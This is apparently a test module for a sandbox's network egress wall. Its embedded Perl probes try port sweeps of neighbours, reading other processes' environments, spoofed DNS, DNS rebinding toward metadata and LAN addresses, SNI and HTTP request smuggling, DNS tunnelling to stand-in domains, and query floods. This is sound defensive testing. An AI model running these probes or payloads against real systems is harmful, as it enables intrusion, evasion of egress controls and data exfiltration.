// N09–N15: what two sandboxes, the host, its LAN and names that lie can do to the network wall. Who was reached is said
// by the stand-ins outside (`arrived`, `heard`, `asked`), never by the job.
import type { EgressPolicy, EgressRule } from '../driver.ts'
import type { Judge } from './probe.ts'
import type { Scene, StepAct } from './scene.ts'

/** Where the stand-in for a listed host is; the test's LAN has it. */
export const listedAddress = '93.184.216.34'
/** Further stand-ins: a private host of the LAN, the metadata service, a resolver, a host for names over HTTPS. */
export const unlistedAddresses = ['10.11.12.13', '169.254.169.254', '8.8.8.8', '1.1.1.1'] as const
/** The pretend host's own address: public, so that no range forbids it. */
export const ownAddress = '203.0.114.1'
export const standInPorts = [53, 80, 443, 8080] as const

const rule = (host: string, port: number, tls: EgressRule['tls'] = 'any'): EgressRule => ({
  ...{ host, ports: [port], proto: 'tcp', tls },
})
const list = (...allow: readonly EgressRule[]): EgressPolicy => ({ mode: 'list', allow, privateRanges: [] })

/** Held when nothing outside has seen what matches. */
const unheard =
  (what: RegExp): Judge =>
  ({ lines }) =>
    lines.find((line) => what.test(line)) ?? null

/** Listens on many ports with a banner that only this scene has. */
const listening = `my %open; my @ports = (1025, 3000, 5432, 6379, 8000, 8088, 9000, 22222, 50000, 65535);
for my $port (@ports) { socket(my $s, PF_INET, SOCK_STREAM, 0) or die $!; setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1); bind($s, pack_sockaddr_in($port, INADDR_ANY)) or die "bind $port: $!"; listen($s, 64); $open{fileno $s} = $s }
see('address', own_address() || '127.0.0.1'); ready();
my $until = time + $SECONDS - 1; while (time < $until) { my $r = ''; vec($r, $_, 1) = 1 for keys %open; select($r, undef, undef, 1) > 0 or next;
  for my $fd (keys %open) { vec($r, $fd, 1) or next; my $peer = accept(my $c, $open{$fd}) or next; see('accepted', inet_ntoa((unpack_sockaddr_in($peer))[1])); syswrite($c, "banner-$NONCE"); close $c } }`

const names = [
  ...[['loop', '127.0.0.1'] as const, ['ten', '10.11.12.13'] as const],
  ...[['meta', '169.254.169.254'] as const, ['six', '::1'] as const],
  ...[['mapped', '::ffff:10.11.12.13'] as const, ['translated', '64:ff9b::a0b:c0d'] as const],
  ...[['own', ownAddress] as const, ['control', listedAddress] as const],
]
const lyingNames = [...names.map(([name]) => name), 'mixed', 'rebind']

/** Whatever a flooding job loses itself: its neighbour must still get its answer. */
const servedNeighbour: StepAct = {
  nest: 'other',
  cell: 'job',
  program: `my $address = ''; for (1 .. 10) { $address = inet_aton('web.example') and last } defined $address or die 'a neighbour is not served'; see('served', 'errno 0')`,
}

export const networkScenes: readonly Scene[] = [
  {
    id: 'N09',
    threats: ['T-14'],
    tries: 'reach what a job listens on: from the host, its LAN and a neighbour, every port',
    acts: [
      { cell: 'job', background: true, program: listening },
      {
        nest: 'other',
        cell: 'job',
        program: `my ($to) = before('address'); sweep(0.05, map { [$to, $_] } 1 .. 65535); see('tried', 'errno 0')`,
      },
      {
        outside: async ({ lines, scan }) =>
          scan(lines.flatMap((line) => /^address: (.*)/.exec(line)?.[1] ?? [])),
      },
    ],
    judge: unheard(/: banner|: connected banner|^accepted: (?!127\.)/),
    positive: ['10.255.0.2:8080: banner'],
  },
  {
    id: 'N10',
    threats: ['T-04', 'T-14', 'T-15'],
    tries:
      "a neighbour's addresses, abstract sockets, shared memory, message queues and processes; speak as it",
    acts: [
      {
        ...{ cell: 'job', background: true, marked: true },
        program: `my $marker = $ENV{MAYFLY_PROBE_MARKER} or die 'no marker'; $0 = "neighbour $marker";
socket(my $u, PF_UNIX, SOCK_STREAM, 0) or die $!; bind($u, pack_sockaddr_un("\\0neighbour-$NONCE")) or die "abstract: $!"; listen($u, 9);
if (!fork) { while (accept(my $c, $u)) { syswrite($c, "bytes $marker"); close $c } syscall($NR{exit_group}, 0) }
my $key = 7_001_001; my $id = shmget($key, 4096, 01666) // die "shm: $!"; shmwrite($id, $marker, 0, length $marker) or die $!;
my $queue = msgget($key, 01666) // die "msg: $!"; msgsnd($queue, pack('l! a*', 1, $marker), 0) or die $!;
for my $dir ('/tmp', '/dev/shm', '/var/tmp') { open(my $f, '>', "$dir/neighbour-$NONCE") or die $!; print $f $marker; close $f }
${listening}`,
      },
      ...(['job', 'shared', 'clean'] as const).map((cell) => ({
        ...{ nest: 'other' as const, cell },
        program: `my ($to) = before('address'); my @addresses = ($to, map { "10.255.$_.2" } 0 .. 3); sweep(0.3, map { my $port = $_; map { [$_, $port] } @addresses } 3000, 8088, 65535);
greet("abstract", PF_UNIX, SOCK_STREAM, pack_sockaddr_un("\\0neighbour-$NONCE"));
my $key = 7_001_001; my $id = shmget($key, 4096, 0); if (defined $id) { shmread($id, my $seen, 0, 128); see('shm', $seen) }
my $queue = msgget($key, 0); if (defined $queue) { msgrcv($queue, my $seen, 200, 0, 04000); see('queue', $seen // '') }
for my $file (glob('/proc/[0-9]*/cmdline /proc/[0-9]*/environ'), map { "$_/neighbour-$NONCE" } '/tmp', '/dev/shm', '/var/tmp') { my $text = join '', lines_of($file); see($file, "marker $1") if $text =~ /(\\Q$MARKER\\E\\w+)/ }
for my $line (lines_of('/proc/net/arp')) { see('arp', $line) if $line =~ /^\\Q$to\\E / }
my ($gateway) = map { /^nameserver\\s+([\\d.]+)$/ } lines_of('/etc/resolv.conf');
if (own_address() ne $to && defined $gateway) { my $question = dns_question("spoof-$NONCE.mayfly-probe.example", 1); for my $way (15, 19) {
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; setsockopt($s, 0, $way, pack('l', 1)); bind($s, pack_sockaddr_in(0, inet_aton($to))) or next; send($s, $question, 0, pack_sockaddr_in(53, inet_aton($gateway))) } }
see('done', 'errno 0')`,
      })),
      {
        outside: async ({ egress }) =>
          egress('first')
            .filter(({ host }) => host.startsWith('spoof-'))
            .map(({ host }) => `spoofed: ${host}`),
      },
    ],
    judge: ({ lines, planted }) =>
      lines.find(
        (line) =>
          planted.some((value) => line.includes(value)) ||
          /^(accepted|spoofed|arp): |: bytes|: connected banner/.test(line),
      ) ?? null,
    positive: ['accepted: 10.255.0.6'],
  },
  {
    id: 'N13',
    threats: ['T-11', 'T-12'],
    tries:
      'listed names that lead to loopback, the LAN, metadata, the host itself; two answers; another answer later',
    egress: list(...lyingNames.map((name) => rule(`${name}.example`, 8080))),
    names: {
      ...Object.fromEntries(names.map(([name, address]) => [`${name}.example`, [[address]]])),
      'mixed.example': [[listedAddress, '10.11.12.13']],
      'rebind.example': Array.from({ length: 12 }, (_, i) => [i % 2 === 0 ? listedAddress : '10.11.12.13']),
    },
    acts: (['job', 'clean'] as const).map((cell) => ({
      cell,
      program: `for my $name (qw(${lyingNames.join(' ')})) { my $address = inet_aton("$name.example") or die "no address for $name"; my $said = '';
  for (1 .. ($name eq 'rebind' ? 6 : 1)) { socket(my $s, PF_INET, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_in(8080, $address)) or next; syswrite($s, 'x'); my $n = sysread($s, my $bytes, 64); $said = $bytes if $n; see($name, $n ? 'answered' : 'nothing') }
  die "the listed host does not answer" if $name eq 'control' && $said eq '' }`,
    })),
    judge: unheard(/^arrived: (?!93\.184\.216\.34:8080$)/),
    positive: ['arrived: 10.11.12.13:8080'],
  },
  {
    id: 'N14',
    threats: ['T-13'],
    tries: 'a listed name, but another inside: SNI, none, split; Host, second request, CONNECT, upgrade',
    egress: list(rule('web.example', 80), rule('web.example', 443, 'sni')),
    names: { 'web.example': [[listedAddress]], 'other.example': [[listedAddress]] },
    acts: (['job', 'clean'] as const).map((cell) => ({
      cell,
      program: `my $address = inet_aton('web.example') or die 'no address';
my $say_to = sub { my ($port, @parts) = @_; socket(my $s, PF_INET, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_in($port, $address)) or return 'errno ' . ($! + 0); setsockopt($s, 6, 1, 1);
  my $heard = ''; for my $part (@parts) { syswrite($s, $part) // last; my $r = ''; vec($r, fileno $s, 1) = 1; if (select($r, undef, undef, 0.15) > 0) { my $n = sysread($s, my $bytes, 4096); last unless $n; $heard .= $bytes } } return $heard =~ /(ok|reached)/ ? 'answered' : 'nothing' };
sub hello { my ($name) = @_; my $sni = $name eq '' ? '' : pack('nn', 0, 5 + length $name) . pack('nCn', 3 + length $name, 0, length $name) . $name;
  my $body = pack('n', 0x0303) . 'r' x 32 . "\\0" . pack('nn', 2, 0x1301) . "\\1\\0" . pack('n', length $sni) . $sni; return chr(1) . pack('Cn', 0, length $body) . $body }
sub record { my ($bytes) = @_; return chr(22) . pack('nn', 0x0301, length $bytes) . $bytes }
my ($mine, $other) = map { "GET / HTTP/1.1\\r\\nHost: $_\\r\\n\\r\\n" } 'web.example', 'other.example';
$say_to->(80, $mine) eq 'answered' && $say_to->(443, record(hello('web.example'))) eq 'answered' or die 'the listed host does not answer';
my $bad = hello('other.example'); my $long = record($bad); my %try = (
  host => [80, $other], kept => [80, $mine, $other], piped => [80, "$mine$other"], connect => [80, "CONNECT other.example:443 HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n"],
  absolute => [80, "GET http://other.example/ HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n"], upgrade => [80, "GET / HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: upgrade\\r\\nUpgrade: other.example\\r\\n\\r\\n"],
  twice => [80, "GET / HTTP/1.1\\r\\nHost: web.example\\r\\nHost: other.example\\r\\n\\r\\n"], folded => [80, "GET / HTTP/1.1\\r\\nHost: web.example\\r\\n x: y\\r\\nHost:\\r\\n other.example\\r\\n\\r\\n"],
  hidden => [80, "GET / HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$other"],
  sni => [443, $long], none => [443, record(hello(''))], plain => [443, $other], segments => [443, substr($long, 0, 3), substr($long, 3, 40), substr($long, 43)],
  records => [443, record(substr $bad, 0, 20) . record(substr $bad, 20)], doubled => [443, record(hello('')) . record(hello('web.example'))]);
see($_, $say_to->(@{$try{$_}})) for sort keys %try`,
    })),
    judge: unheard(/^heard: (?!web\.example$)/),
    positive: ['heard: other.example'],
  },
  {
    id: 'N15',
    threats: ['T-13'],
    tries:
      'tunnels through names: odd types, other resolvers, names over TCP and HTTPS, multicast, 70,000 names',
    egress: list(rule('web.example', 8080), rule('*.wild.example', 8080)),
    names: { 'web.example': [[listedAddress]], 'tunnel.example': [[listedAddress]] },
    acts: [
      servedNeighbour,
      {
        cell: 'job',
        program: `my ($gateway) = map { /^nameserver\\s+([\\d.]+)$/ } lines_of('/etc/resolv.conf'); my $hex = unpack('H*', $NONCE);
sub udp { my ($to, $port, $message, $wait) = @_; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; my $r = ''; vec($r, fileno $s, 1) = 1;
  connect($s, pack_sockaddr_in($port, inet_aton($to))) && defined send($s, $message, 0) && select($r, undef, undef, $wait) > 0 or return 'silent'; my $n = sysread($s, my $reply, 4096); return defined $n ? 'rcode ' . (ord(substr $reply, 3, 1) & 15) : 'errno ' . ($! + 0) }
udp($gateway, 53, dns_question('web.example', 1), 2) eq 'rcode 0' or die 'the gateway does not answer for a listed name';
for my $type (1, 2, 5, 10, 15, 16, 28, 33, 64, 65, 255) { see("type $type", udp($gateway, 53, dns_question("$hex.tunnel.example", $type), 0.5)); udp($gateway, 53, dns_question("$hex.web.example", $type), 0.5); udp($gateway, 53, dns_question('web.example', $type), 0.5) }
for my $to ('8.8.8.8', '1.1.1.1') { see("$to udp", udp($to, 53, dns_question("$hex.tunnel.example", 16), 0.3)); greet4($to, 53); greet4($to, 443) }
see('mdns', udp('224.0.0.251', 5353, dns_question("$hex.local", 1), 0.3)); see('llmnr', udp('224.0.0.252', 5355, dns_question($hex, 1), 0.3));
socket(my $t, PF_INET, SOCK_STREAM, 0) or die $!; connect($t, pack_sockaddr_in(53, inet_aton($gateway))) or die "no names over TCP: $!"; my $q = dns_question("$hex.tunnel.example", 16); syswrite($t, pack('n', length $q) . $q); sysread($t, my $reply, 512); see('tcp', 'rcode ' . (ord(substr $reply, 5, 1) & 15));
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; setsockopt($s, SOL_SOCKET, SO_RCVBUF, 1 << 20); connect($s, pack_sockaddr_in(53, inet_aton($gateway))); my ($got, $begin) = (0, time); my $r = ''; vec($r, fileno $s, 1) = 1;
for my $i (1 .. 70000) { send($s, dns_question("n$i.wild.example", 1), 0); my $ready = $r; while (select($ready, undef, undef, 0) > 0) { sysread($s, my $bytes, 512) or last; $got++ } }
while (select(my $ready = $r, undef, undef, 0.5) > 0) { sysread($s, my $bytes, 512) or last; $got++ }
my $most = 200 * (time - $begin + 2); see('flood', $got <= $most ? 'errno 0' : "answered $got of at most $most");`,
      },
      servedNeighbour,
    ],
    judge: unheard(/^asked: .*tunnel|^arrived: |^flood: answered|: bytes/),
    positive: ['asked: ab.tunnel.example'],
  },
]
